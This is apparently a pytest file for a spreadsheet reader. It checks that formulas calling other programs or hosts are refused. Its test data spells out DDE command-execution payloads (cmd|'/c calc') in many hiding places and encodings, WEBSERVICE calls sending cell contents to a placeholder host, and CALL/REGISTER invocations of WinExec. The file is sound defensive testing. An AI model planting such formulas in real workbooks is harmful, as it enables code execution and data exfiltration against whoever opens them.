"""Formulas that ask another program or machine, in every place where Excel calculates one."""

import pytest

from input_packages.reading.refusals import Refusal
from tests.input_packages.reading.office_files import S_STRICT, cell, one_sheet, sheet, workbook

DDE = "cmd|'/c calc'!A1"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
C = "http://schemas.openxmlformats.org/drawingml/2006/chart"

MARK = '<i:x xmlns:i="urn:i">"</i:x>'
NAME = f'<definedNames><definedName name="n">{DDE}</definedName></definedNames>'
RULE = f"<conditionalFormatting><cfRule><formula>{DDE}</formula></cfRule></conditionalFormatting>"
CHECK = f"<dataValidations><dataValidation><formula1>{DDE}</formula1></dataValidation></dataValidations>"
EXTENSION = f'<extLst><ext xmlns:xm="{XM}"><xm:f>{DDE}</xm:f></ext></extLst>'
STRICT = sheet(cell(f"<f>{DDE}</f>"), space=S_STRICT)
CHART = f'<c:chartSpace xmlns:c="{C}"><c:f>{DDE}</c:f></c:chartSpace>'.encode()


def calculated(formula: str) -> bytes:
    return one_sheet(cell(f"<f>{formula}</f><v>1</v>"))


HOSTILE = {
    "a program": calculated(DDE),
    "a program in numbers": calculated("cmd&#124;'/c calc'!A1"),
    "a program in CDATA": calculated(f"<![CDATA[{DDE}]]>"),
    "a program between marks that Excel passes over": calculated(f"{MARK}{DDE}{MARK}"),
    "a program behind a text": calculated(f'"a"&amp;{DDE}'),
    "a program in a quoted name": calculated("'cmd'|'/c calc'!A1"),
    "a program in a name": workbook({"S": sheet("")}, around=NAME),
    "a program in a rule": one_sheet("", RULE),
    "a program in a check": one_sheet("", CHECK),
    "a program in an extension": one_sheet("", EXTENSION),
    "a program in the strict form": workbook({"S": STRICT}, space=S_STRICT),
    "a program in a chart": one_sheet("", more={"xl/charts/odd.xml": CHART}),
    "a web service": calculated('WEBSERVICE("http://x.example/?"&amp;A1)'),
    "a web service as Excel writes it": calculated('_xlfn.WEBSERVICE("http://x.example/")'),
    "a web service in small letters": calculated('_xlfn.webservice ("http://x.example/")'),
    "a filter of XML": calculated('_xlfn.FILTERXML(A1,"//x")'),
    "a server of data": calculated('RTD("x.y",,"z")'),
    "a call": calculated('CALL("kernel32","WinExec","JCJ","calc",0)'),
    "a registration": calculated('REGISTER.ID("kernel32","WinExec")'),
    "a picture from the web": calculated('_xlfn.IMAGE("http://x.example/p.png")'),
    "a function of an add-in": calculated("_xll.FETCH(1)"),
    "a cube": calculated('CUBEVALUE("c","m")'),
    "a link to a file": calculated('HYPERLINK("file:///c:/x.exe","ok")'),
    "a link to a machine": calculated('HYPERLINK("\\\\server\\x","ok")'),
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_a_formula_that_reaches_out_is_refused(content, read):
    found = read(content)
    assert (found.refusals, found.preview) == ((Refusal.EXTERNAL,), None)


HARMLESS = (
    "SUM(A1:A3)",
    "'A|B'!A1",
    "Table1[a|b]",
    '"cmd|x"&amp;A1',
    "_xlfn.XLOOKUP(A1,B:B,C:C)",
    'HYPERLINK("https://www.un.org/","UN")',
    'HYPERLINK("#Sheet!A1","Note: see there")',
    "IF(A1&gt;1,RANK(A1,A:A),0)",
    "_xlfn._xlws.SORT(A1:A3)",
    "CALLED(1)",
)


def test_formulas_that_only_calculate_are_no_fault(read):
    rows = "".join(
        cell(f"<f>{formula}</f><v>{n}</v>", f"A{n}") for n, formula in enumerate(HARMLESS, 1)
    ) + cell("<is><t>=WEBSERVICE(1) is text, cmd|x too</t></is>", "A99", "inlineStr")
    found = read(one_sheet(rows))
    assert found.refusals == ()
    assert found.preview is not None
    assert len(found.preview.text.splitlines()) == len(HARMLESS) + 2
